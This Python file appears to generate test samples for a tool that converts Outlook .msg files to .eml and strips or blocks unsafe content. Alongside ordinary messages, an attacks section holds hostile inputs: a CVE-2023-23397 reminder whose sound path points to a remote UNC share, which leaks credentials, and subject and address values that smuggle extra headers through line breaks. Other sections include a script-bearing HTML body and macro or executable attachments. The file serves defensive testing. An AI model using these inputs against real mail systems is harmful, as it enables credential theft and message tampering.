"""Messages of Outlook: written anew as mail, and what has no place there."""
from outlookmaker import (ADDRESS, ANSI, APPOINTMENT, BODY, CLASS, CODE_PAGE, COMMON, HTML, RTF,
                          SUBJECT, TASK, TIME, BINARY, Item, file, moment, recipient,
                          uncompressed_rtf)
from sample import Sample, sibling

TO = (recipient("鈴木 花子", "suzuki@example.jp"), recipient("佐藤", "sato@example.jp", 2))
FILE = "様式第1号\r\n".encode()
SENT = (TIME, moment(2026, 11, 21, 3, 0))
MAIL = {CLASS: "IPM.Note", SUBJECT: "入札公告の件", BODY: "本文です。\r\n二行目です。\r\n",
        0x0039: SENT, 0x0042: "山田 太郎", 0x5D02: "yamada@example.lg.jp",
        0x0C1A: "山田 太郎", 0x5D01: "yamada@example.lg.jp",
        0x1035: "<20261121.1@example.lg.jp>"}


def message(more=None, attachments=(), recipients=TO, named=(), place="top", without=()):
    values = {key: value for key, value in {**MAIL, **(more or {})}.items() if key not in without}
    return Item(values, recipients, attachments, named, place)


def out(name, item, *removals, note="", **more):
    data = item if isinstance(item, bytes) else item.data()
    return Sample(name, data, verdict="converted", removals=["msg.rewritten", *removals],
                  output=name.rsplit(".", 1)[0] + ".eml", note=note, **more)


def held(name, data, reason, note):
    return Sample(name, bytes(data), verdict="blocked", reason=reason, note=note)


def kept():
    yield out("入札公告.msg", message(attachments=[file("様式 第1号.txt", FILE)]),
              note="text, Japanese names, a file", demo=True)
    narrow = {key: (ANSI, value) if isinstance(value, str) else value
              for key, value in MAIL.items()}
    yield out("ansi.msg", Item({**narrow, CODE_PAGE: 932}, TO), note="8-bit strings in CP932")
    cyrillic = {**MAIL, SUBJECT: (ANSI, "Привет".encode("cp1251")), CODE_PAGE: 1251}
    yield out("ansi-1251.msg", Item(cyrillic, TO), note="8-bit strings of another country")
    german = {**MAIL, SUBJECT: (ANSI, "Grüße".encode("cp1252")), 0x3FF1: 0x407, 0x3FDE: 65001}
    yield out("ansi-locale.msg", Item(german, TO), note="8-bit strings by the writer's language")
    yield out("no-recipients.msg", message({0x0E04: "鈴木 花子; sato@example.jp"}, recipients=()),
              note="only the names that Outlook shows")
    yield out("exchange.msg", message({0x0065: "/O=EXAMPLE/CN=YAMADA"}, without=(0x5D01, 0x5D02),
                                      recipients=()),
              note="a sender that only an Exchange server knows")
    yield out("empty.msg", Item({CLASS: "IPM.Note"}), note="nothing at all")
    yield out("report.msg", message({CLASS: "REPORT.IPM.Note.NDR", 0x1001: "届きませんでした。"},
                                    without=(BODY,)), note="the text of a report of non-delivery")


def bodies():
    html = "<html><body><p>本文です。</p><script>alert(1)</script></body></html>"
    yield out("html.msg", message({HTML: html.encode(), 0x3FDE: 65001}, without=(BODY,)),
              "mail.html", "html.script", note="HTML alone")
    yield out("html-text.msg", message({HTML: html}, without=(BODY,)), "mail.html",
              "html.script", note="HTML as a text property")
    yield out("both.msg", message({HTML: html.encode("cp932"), 0x3FDE: 932}), "mail.alternative",
              note="two forms of the same text")
    rtf = uncompressed_rtf(b"{\\rtf1\\ansi Only here.\\par}")
    yield out("rtf.msg", message({RTF: rtf}, without=(BODY,)), note="RTF alone becomes a file")
    yield out("rtf-too.msg", message({RTF: rtf}), "mail.alternative", note="RTF beside the text")
    yield out("rtf-broken.msg", message({RTF: rtf[:20]}), note="RTF that cannot be unpacked")


def kinds():
    yield out("予定.msg", message(
        {CLASS: "IPM.Appointment"},
        named=[(APPOINTMENT, 0x820D, (TIME, moment(2026, 12, 1, 1, 0))),
               (APPOINTMENT, 0x820E, (TIME, moment(2026, 12, 1, 2, 30))),
               (APPOINTMENT, 0x8208, "第一会議室")]), note="when and where stand in the text")
    yield out("仕事.msg", message({CLASS: "IPM.Task"},
                                named=[(TASK, 0x8105, (TIME, moment(2026, 12, 31, 0, 0)))]),
              note="until when")
    yield out("連絡先.msg", message({CLASS: "IPM.Contact", 0x3001: "高橋 一郎", 0x3A16: "例の会社",
                                 0x3A08: "03-0000-0000"}, recipients=(), without=(BODY,),
                                named=[(ADDRESS, 0x8083, "takahashi@example.jp")]),
              note="who it is")


def files():
    yield out("within.msg", message(attachments=[
        file("前の便", message({SUBJECT: "Re: 前の便"}, [file("内.txt", FILE)],
                             place="embedded").tree(), 5)]), note="a message within")
    yield out("ole.msg", message(attachments=[file("表", {"\x01Ole": bytes(20)}, 6)]),
              "msg.ole_attachment", note="an OLE object")
    for method in (2, 3, 4, 7):
        yield out(f"reference-{method}.msg", message(attachments=[
            file("共有.docx", None, method, _3708=r"\\server\share\x.docx")]), "mail.reference",
            note="a file that lies elsewhere")
    yield out("never-attached.msg", message(attachments=[file("空", None, 0)]),
              note="a place without a file")
    yield out("program.msg", message(attachments=[file("setup.exe", b"MZ" + bytes(200))]),
              "mail.attachment_held", note="a program stays behind")
    macro = sibling("docx", "入札説明書.docm")
    yield out("macro.msg", message(attachments=[file("入札説明書.docm", macro)]),
              "mail.attachment_renamed", "ooxml.macro_enabled", "ooxml.vba_project",
              note="a document with macros")


def attacks():
    yield out("reminder.msg", message(named=[(COMMON, 0x851F, r"\\192.0.2.1\share\ring.wav"),
                                             (COMMON, 0x851C, 1)]), "msg.reminder",
              note="CVE-2023-23397: a sound that is fetched from a server")
    yield out("form.msg", message({CLASS: "IPM.Note.Form"}, named=[
        (COMMON, 0x850F, (BINARY, b"form")), (COMMON, 0x8541, (BINARY, b"script"))]), "msg.form",
        note="a form of its own with a script")
    yield out("second-header.msg", message({SUBJECT: "a\r\nBcc: x@example.com\r\n\r\nbody"}),
              note="a subject that ends its line")
    yield out("address.msg", message({0x5D02: "a@example.jp>\r\nX: <b@example.jp"}),
              note="an address that ends its line")


def broken():
    deep = message(place="embedded")
    for _ in range(9):
        deep = message(attachments=[file("m", deep.tree(), 5)], place="embedded")
    deep.place = "top"
    yield held("deep.msg", deep.data(), "limit.depth", "ten messages within each other")
    item = message(attachments=[file("a", None, 5)])
    yield held("no-message.msg", item.data(), "malformed", "a message within that is not there")
    whole = message().data()
    yield held("cut.msg", whole[:len(whole) - 512], "malformed.truncated", "the end is missing")
    many = message({0x6000 + i: i for i in range(2100)})
    yield held("many.msg", many.data(), "limit.members", "more properties than any message has")


def samples():
    for group in (kept, bodies, kinds, files, attacks, broken):
        yield from group()
